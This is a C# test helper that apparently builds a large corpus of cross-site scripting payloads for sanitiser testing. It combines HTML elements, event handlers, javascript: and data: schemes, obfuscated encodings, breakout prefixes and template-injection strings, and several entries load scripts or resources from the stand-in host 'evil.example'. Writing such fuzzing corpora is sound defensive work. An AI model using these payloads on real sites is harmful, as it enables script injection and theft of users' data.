using System.Net;
using System.Text;

namespace AutoPortal.Testing.Hostile;

/// <summary>A thousand strings and more that would run as script, or call another host, wherever words become markup: elements × handlers, schemes × spellings, breakouts × wrappings, all from public knowledge.</summary>
public static class HostileWords
{
    /// <summary>What each of them tries to call; a test puts its own function there.</summary>
    public const string Call = "alert(1)";

    /// <summary>The host that each of them tries to reach.</summary>
    public const string Host = "evil.example";

    private static readonly string[] Handlers =
    [
        "onerror", "onload", "onclick", "onfocus", "onblur", "onmouseover", "onmouseenter", "onpointerover", "onpointerenter", "onwheel", "onscroll", "ontoggle", "onbeforetoggle",
        "onanimationstart", "onanimationend", "ontransitionend", "onbegin", "onend", "onrepeat", "onpageshow", "onhashchange", "onresize", "onfocusin", "oncanplay", "onloadeddata", "onplay", "oninput", "onpaste", "oncopy",
    ];

    private static readonly string[] Elements =
    [
        "img src=x", "svg", "body", "iframe", "video src=x", "audio src=x", "input autofocus", "select autofocus", "textarea autofocus", "details open", "marquee", "object data=x", "embed src=x", "math", "style", "a href=# id=x tabindex=1 autofocus", "div popover", "xss contenteditable",
    ];

    private static readonly string[] Schemes =
    [
        "javascript:", "JaVaScRiPt:", " javascript:", "\tjavascript:", "\u0001javascript:", "java\nscript:", "java\tscript:", "java\0script:", "javascript\n:", "javascript&colon;", "&#106;avascript:", "&#x6A;avascript&#58;", "\\x6Aavascript:", "%6Aavascript:", "javascript://%0a", "javascript://" + Host + "/%0A",
        "vbscript:", "livescript:", "data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#", "data:image/svg+xml,<svg onload=", "blob:", "filesystem:", "view-source:", "feed:javascript:", "jar:javascript:",
        "//" + Host + "/?", "\\\\" + Host + "\\?", "/\\" + Host + "/?", "///" + Host + "/?", "https:" + Host + "/?", "http:///" + Host + "/?", "/\t/" + Host + "/?", "ftp://" + Host + "/?", "ws://" + Host + "/?", "wss://" + Host + "/?",
    ];

    private static readonly string[] Bodies =
    [
        "<script>" + Call + "</script>", "<script src=//" + Host + "/x.js></script>", "<script type=module>import('//" + Host + "/x.js')</script>", "<link rel=stylesheet href=//" + Host + "/x.css>", "<link rel=prefetch href=//" + Host + "/p>", "<link rel=dns-prefetch href=//" + Host + ">",
        "<style>@import '//" + Host + "/x.css'</style>", "<style>*{background:url(//" + Host + "/x)}</style>", "<base href=//" + Host + "/>", "<meta http-equiv=refresh content='0;url=javascript:" + Call + "'>", "<meta http-equiv=refresh content='0;url=//" + Host + "'>",
        "<iframe srcdoc='<script>" + Call + "</script>'></iframe>", "<iframe src=//" + Host + "></iframe>", "<img src=//" + Host + "/p.gif>", "<img srcset='//" + Host + "/p.gif 1x'>", "<picture><source srcset=//" + Host + "/p></picture>", "<video poster=//" + Host + "/p>", "<svg><use href='//" + Host + "/x#a'/></svg>",
        "<svg><script>" + Call + "</script></svg>", "<svg><animate onbegin=" + Call + " attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:" + Call + ">", "<svg><foreignObject><body onload=" + Call + ">", "<math><maction actiontype=statusline xlink:href=javascript:" + Call + ">x",
        "<form action=//" + Host + "><button>x", "<button formaction=javascript:" + Call + ">x", "<isindex action=javascript:" + Call + " type=submit>", "<object data=javascript:" + Call + "></object>", "<embed src=javascript:" + Call + ">", "<template><script>" + Call + "</script></template>", "<noscript><p title='</noscript><img src=x onerror=" + Call + ">'>",
        "{{constructor.constructor('" + Call + "')()}}", "${" + Call + "}", "#{" + Call + "}", "<%= " + Call + " %>", "@(" + Call + ")", "{{" + Call + "}}", "<!--><script>" + Call + "</script>-->", "<![CDATA[<script>" + Call + "</script>]]>", "<!--[if gte IE 4]><script>" + Call + "</script><![endif]-->",
    ];

    private static readonly string[] Breakouts = ["", "\"", "'", "\">", "'>", "`>", "--></style></script>", "</title></textarea></style></noscript></script>", "]]>", "*/", "\\\"", "\u2028", "\"/>", "'};", "\0"];

    private static readonly Func<string, string>[] Spellings =
    [
        s => s, s => s.ToUpperInvariant(), WebUtility.HtmlEncode, Uri.EscapeDataString, s => s.Replace("<", "\uFF1C", StringComparison.Ordinal), s => s.Replace(" ", "/", StringComparison.Ordinal), s => s.Replace(" ", "\f", StringComparison.Ordinal), s => s.Replace("<", "<\0", StringComparison.Ordinal),
        s => s.Replace("script", "scr<script>ipt", StringComparison.Ordinal), s => string.Concat(s.Select(c => $"&#{(int)c}")), s => string.Concat(s.Select(c => $"\\u{(int)c:x4}")), s => Convert.ToBase64String(Encoding.UTF8.GetBytes(s)),
    ];

    /// <summary>All of them; always the same, in the same order.</summary>
    public static IReadOnlyList<string> All { get; } = [.. Corpus().Distinct(StringComparer.Ordinal)];

    private static IEnumerable<string> Corpus()
    {
        foreach (var element in Elements)
        {
            foreach (var handler in Handlers)
            {
                yield return $"<{element} {handler}={Call}>";
            }
        }

        foreach (var scheme in Schemes)
        {
            yield return scheme + Call;
            yield return $"<a href=\"{scheme}{Call}\">x</a>";
            yield return $"<iframe src='{scheme}{Call}'></iframe>";
            yield return $"[x]({scheme}{Call})";
        }

        foreach (var body in Bodies)
        {
            foreach (var breakout in Breakouts.Take(7))
            {
                yield return breakout + body;
            }

            foreach (var spelling in Spellings)
            {
                yield return spelling(body);
            }
        }

        foreach (var breakout in Breakouts)
        {
            foreach (var handler in Handlers.Take(6))
            {
                yield return $"{breakout} autofocus tabindex=1 {handler}={Call} x=";
            }
        }
    }
}
